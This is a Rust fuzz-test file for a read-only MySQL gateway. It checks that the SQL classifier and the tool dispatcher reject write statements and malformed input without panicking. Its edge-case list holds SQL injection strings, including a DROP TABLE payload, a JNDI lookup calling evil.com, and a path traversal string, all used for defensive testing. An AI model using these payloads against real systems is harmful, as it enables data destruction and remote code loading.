//! Black-box fuzzing of the classifier and the dispatcher.
//!
//! Random, malicious and edge-case inputs must never panic and must never
//! let a non-read statement through. None of these tests need a database:
//! the pool is lazy and points at a closed port.

use mysql_gateway::ErrorKind;
use mysql_gateway::config::Config;
use mysql_gateway::db::{ConnectionPool, QueryExecutor};
use mysql_gateway::tools::sql_validator::{StatementKind, validate_readonly};
use mysql_gateway::tools::{ToolDispatcher, ToolRequest, ToolResponse};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use serde_json::json;
use std::sync::Arc;
use tokio_util::sync::CancellationToken;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "a".repeat(10000),
        random_string(100),
        "\u{0000}\u{FFFF}".to_string(),
        "';SELECT * FROM information_schema.tables--".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "../../../".to_string(),
        "\x00\x01\x02".to_string(),
        "/*".to_string(),
        "*/".to_string(),
        "/*!".to_string(),
        "`".to_string(),
        "\\".to_string(),
        ";".repeat(50),
        "(".repeat(500),
    ]
}

const FRAGMENTS: &[&str] = &[
    "SELECT", "select", "WITH", "SHOW", "DESCRIBE", "EXPLAIN", "DELETE", "INSERT", "UPDATE",
    "DROP", "CALL", "SET", "INTO", "OUTFILE", "FROM", "users", "`t`", "'str'", "\"dq\"", "'", "\"",
    "`", ";", "(", ")", ",", "*", "1", "?", "-- c\n", "# c\n", "/* c */", "/*!", "/*M!", "*/", "AS",
    "ANALYZE", "TABLES", "FULL", "\n", " ", "\t", "N'x'", "X'0A'", "@v", "=", ":=", "ñ", "日本",
];

fn random_sql(rng: &mut impl Rng) -> String {
    let len = rng.gen_range(0..16);
    (0..len)
        .map(|_| *FRAGMENTS.choose(&mut *rng).unwrap_or(&" "))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Leading keyword of an accepted statement, ignoring comments and parens.
fn plain_leading_word(sql: &str) -> Option<String> {
    sql.split(|c: char| c.is_whitespace() || c == '(')
        .find(|w| !w.is_empty())
        .map(|w| w.to_ascii_uppercase())
}

#[test]
fn fuzz_classifier_never_panics() {
    for sql in edge_case_strings() {
        let _ = validate_readonly(&sql);
    }

    let mut rng = rand::thread_rng();
    for _ in 0..5000 {
        let sql = random_sql(&mut rng);
        let _ = validate_readonly(&sql);
    }
}

#[test]
fn fuzz_classifier_accepts_only_read_forms() {
    let mut rng = rand::thread_rng();
    for _ in 0..5000 {
        let sql = random_sql(&mut rng);
        let Ok(stmt) = validate_readonly(&sql) else {
            continue;
        };

        assert!(
            !stmt.sql.contains(';') || stmt.sql.contains('\'') || stmt.sql.contains('"')
                || stmt.sql.contains('`') || stmt.sql.contains('#') || stmt.sql.contains("--")
                || stmt.sql.contains("/*"),
            "bare terminator survived in {:?}",
            stmt.sql
        );

        if let Some(word) = plain_leading_word(&stmt.sql) {
            let allowed = ["SELECT", "WITH", "SHOW", "DESCRIBE", "DESC", "EXPLAIN", "USE"];
            if !word.starts_with(['-', '#', '/', '\'', '"', '`', 'N', 'X']) {
                assert!(
                    allowed.contains(&word.as_str()),
                    "{:?} accepted as {:?}",
                    stmt.sql,
                    stmt.kind
                );
            }
        }
        let has_literal = stmt.sql.contains(['\'', '"', '`']);
        let has_comment = stmt.sql.contains("/*") || stmt.sql.contains('#') || stmt.sql.contains("--");
        if stmt.kind == StatementKind::Select && !has_literal && !has_comment {
            assert!(!stmt.sql.contains(":="), "assignment accepted: {:?}", stmt.sql);
        }
        if stmt.kind == StatementKind::Select && !has_literal {
            let upper = stmt.sql.to_ascii_uppercase();
            assert!(
                !upper.split_whitespace().any(|w| w == "INTO"),
                "SELECT ... INTO accepted: {:?}",
                stmt.sql
            );
        }
    }
}

#[tokio::test]
async fn fuzz_dispatcher_never_opens_connection_for_bad_input() {
    let settings = Config::with_dsn("mysql://u:p@127.0.0.1:1/db")
        .settings()
        .unwrap();
    let pool = ConnectionPool::connect_lazy(&settings.dsn, &settings.pool).unwrap();
    let executor = Arc::new(QueryExecutor::new(pool, settings.query));
    let dispatcher = ToolDispatcher::new(executor.clone());

    for bad in edge_case_strings() {
        let mut requests = vec![
            ToolRequest::new(bad.clone(), json!({})),
            ToolRequest::new("describe_table", json!({"db": "testdb", "table": bad})),
            ToolRequest::new("show_create_table", json!({"table": bad})),
            ToolRequest::new("run_query", json!({"sql": format!("DELETE FROM t WHERE x = '{bad}'")})),
            ToolRequest::new("run_query", json!({"sql": bad, "row_cap": "ten"})),
        ];
        // an empty db means "the DSN's database" and would reach the pool
        if !bad.is_empty() {
            requests.push(ToolRequest::new("list_tables", json!({"db": bad})));
        }
        for request in requests {
            let tool = request.tool.clone();
            let response = dispatcher.dispatch(request, CancellationToken::new()).await;
            match response {
                ToolResponse::Error { error } => {
                    assert_ne!(error.kind, ErrorKind::Timeout, "{tool}");
                    assert!(!error.message.is_empty());
                }
                ToolResponse::Result(doc) => panic!("{tool} produced a result: {doc:?}"),
            }
        }
    }

    assert_eq!(executor.stats().open, 0);
}
